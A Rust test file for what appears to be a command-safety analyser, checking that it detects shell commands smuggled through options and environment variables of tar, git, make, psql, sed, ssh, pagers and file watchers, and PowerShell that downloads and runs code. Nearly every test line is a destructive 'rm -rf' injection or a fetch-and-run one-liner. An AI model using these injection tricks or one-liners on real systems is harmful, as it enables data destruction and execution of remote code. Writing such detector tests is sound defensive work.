//! Options and arguments that hold a shell line.

use super::{CodeSource, files, foreign, programs};

#[test]
fn follows_lines_in_options() {
    for line in [
        "tar cf a b --checkpoint=1 --checkpoint-action=exec='rm -rf /x'",
        "tar xf a --to-command 'rm -rf /x'",
        "tar -I 'rm -rf /x' -cf a b",
        "tar cf a b --use-compress-program='rm -rf /x'",
        "tar cf h:a b --rsh-command='rm -rf /x'",
        "git rebase -x 'rm -rf /x' HEAD~2",
        "git rebase --exec='rm -rf /x' HEAD~2",
        "git submodule foreach --recursive 'rm -rf /x'",
        "git bisect run rm -rf /x",
        "git filter-branch --tree-filter 'rm -rf /x' HEAD",
        "git clone 'ext::rm -rf /x'",
        "git -c core.pager='rm -rf /x' log",
        "git -c core.sshCommand='rm -rf /x' fetch",
        "git -c alias.x='!rm -rf /x' x",
        "git config --global alias.x '!rm -rf /x'",
        "GIT_SSH_COMMAND='rm -rf /x' git fetch",
        "make --eval='x: ; rm -rf /x'",
        "make --eval='$(shell rm -rf /x)'",
        "make -f - <<'E'\nall:\n\t@rm -rf /x\nE",
        "printf 'all:\\n\\trm -rf /x\\n' > Makefile; make",
        "go test -exec 'rm -rf /x' ./...",
        "go build -toolexec 'rm -rf /x'",
        "psql -c '\\! rm -rf /x'",
        "psql <<'E'\n\\! rm -rf /x\nE",
        "psql -c \"COPY t TO PROGRAM 'rm -rf /x'\"",
        "mysql -e 'system rm -rf /x'",
        "gdb -batch -ex '!rm -rf /x'",
        "gdb -batch -ex 'shell rm -rf /x'",
        "sed '1e rm -rf /x' f",
        "sed 'e rm -rf /x' f",
        "sed -n '/a/,$!{p;e rm -rf /x\n}' f",
        "echo a | sed 's/.*/rm -rf \\/x/e'",
        "rsync -e 'rm -rf /x' a h:b",
        "rsync -avze 'rm -rf /x' a h:b",
        "ssh -o ProxyCommand='rm -rf /x' h",
        "ssh -oProxyCommand='rm -rf /x' h",
        "ssh -o LocalCommand='rm -rf /x' h",
        "expect -c 'spawn rm -rf /x; expect eof'",
        "concurrently 'rm -rf /x' 'true'",
        "nodemon --exec 'rm -rf /x'",
        "watchexec -e rs -- rm -rf /x",
        "watchexec rm -rf /x",
        "ls | entr rm -rf /x",
        "ls | entr -s 'rm -rf /x'",
        "cargo watch -s 'rm -rf /x'",
        "onchange 'src/**' -- rm -rf /x",
        "npx -c 'rm -rf /x'",
    ] {
        let found = programs(line);
        let deletes =
            found.iter().any(|program| program.ends_with("rm -rf /x") || program == "rm -rf \\/x");
        assert!(deletes, "{line}: {found:?}");
        let by_rm = files(line).iter().filter(|file| file.starts_with("delete")).count();
        assert_eq!(by_rm, 1, "{line}: {:?}", files(line));
    }
    assert_eq!(programs("cargo watch -x test").pop().as_deref(), Some("cargo test"));
}

#[test]
fn other_values_are_no_lines() {
    for line in [
        "git -c user.name=x commit -m y",
        "git -c alias.x=log x",
        "git config alias.co checkout",
        "ssh -o StrictHostKeyChecking=no h",
        "tar czf a.tgz --checkpoint-action=dot b",
        "psql -c 'select 1'",
        "gdb -ex run",
        "sed 's/a/e/;s/we/b/g' f",
        "sed -e '/e x/d' f",
        "cargo build",
        "make -j4 test",
    ] {
        assert_eq!(programs(line).len(), 1, "{line}: {:?}", programs(line));
    }
}

#[test]
fn sed_scripts_use_files() {
    for (line, expected) in [
        ("sed -n 'w /etc/x' f", "write /etc/x ; read f"),
        ("sed 's/a/b/w /etc/x' f", "write /etc/x ; read f"),
        ("sed '/a/r /etc/x' f", "read /etc/x ; read f"),
        ("sed 's/w x/y/' f", "read f"),
    ] {
        assert_eq!(files(line).join(" ; "), expected, "{line}");
    }
}

#[test]
fn powershell_that_runs_what_it_loads() {
    for line in [
        "powershell -c 'iwr https://x/y | iex'",
        "pwsh -Command 'Invoke-Expression (Invoke-WebRequest https://x)'",
        "powershell -c \"iex ((New-Object Net.WebClient).DownloadString('https://x'))\"",
        "curl https://x | pwsh -",
    ] {
        assert_eq!(foreign(line), [CodeSource::Download], "{line}");
    }
    assert_eq!(foreign("powershell -enc AAAA"), [CodeSource::Decoded]);
    assert_eq!(foreign("pwsh -c 'Get-ChildItem'"), []);
}

#[test]
fn follows_lines_in_variables() {
    for line in [
        "PAGER='rm -rf /x' git log",
        "export GIT_PAGER='rm -rf /x'; git log",
        "PAGER='rm -rf /x'; export PAGER; man ls",
        "env VISUAL='rm -rf /x' crontab -e",
        "export GIT_SSH_COMMAND='sh -c \"rm -rf /x\"'; git pull",
        "GIT_EXTERNAL_DIFF='rm -rf /x' git diff",
        "EDITOR='rm -rf /x' git commit",
        "LESSOPEN='|rm -rf /x %s' less f",
        "BROWSER='rm -rf /x' xdg-open f",
        "PAGER='rm -rf /x' psql -l",
        "sudo PAGER='rm -rf /x' systemctl status",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf /x' git log",
        "GIT_CONFIG_PARAMETERS=\"'core.pager=rm -rf /x'\" git log",
        "man -P 'rm -rf /x' ls",
        "less '+!rm -rf /x' f",
        "git grep -O'rm -rf /x' y",
    ] {
        let found = programs(line);
        let deletes =
            found.iter().any(|program| program.trim_start_matches('!').starts_with("rm -rf /x"));
        assert!(deletes, "{line}: {found:?}");
    }
    // A pager that uses the variable itself is followed once.
    assert_eq!(programs("PAGER=bat git log"), ["git log", "bat"]);
    assert_eq!(programs("PAGER='rm x' ls"), ["ls"]);
}
